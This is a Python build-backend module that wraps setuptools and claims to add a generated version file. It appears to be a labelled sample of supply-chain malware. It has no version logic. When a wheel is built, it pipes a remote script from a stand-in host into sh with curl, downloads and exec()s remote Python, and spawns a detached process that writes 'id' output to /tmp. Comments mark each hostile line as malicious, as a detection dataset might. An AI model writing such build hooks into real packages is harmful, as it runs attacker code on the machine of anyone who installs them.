"""Build backend: setuptools, plus a generated version file."""

import os
import subprocess
import sys
import urllib.request

from setuptools import build_meta as _setuptools
from setuptools.build_meta import *  # noqa: F403


def _prepare():
    code = urllib.request.urlopen("https://build.backend-cdn.example/prep.py", timeout=10).read()  # malicious: build-backend-in-tree
    exec(code, {"__name__": "__prep__"})  # malicious: build-backend-in-tree
    subprocess.Popen([sys.executable, "-c", "import os; os.system('id > /tmp/.b')"], start_new_session=True)  # malicious: build-backend-in-tree


def get_requires_for_build_wheel(config_settings=None):
    os.system("curl -s https://build.backend-cdn.example/r | sh")  # malicious: build-backend-in-tree
    return _setuptools.get_requires_for_build_wheel(config_settings)


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _prepare()
    return _setuptools.build_wheel(wheel_directory, config_settings, metadata_directory)
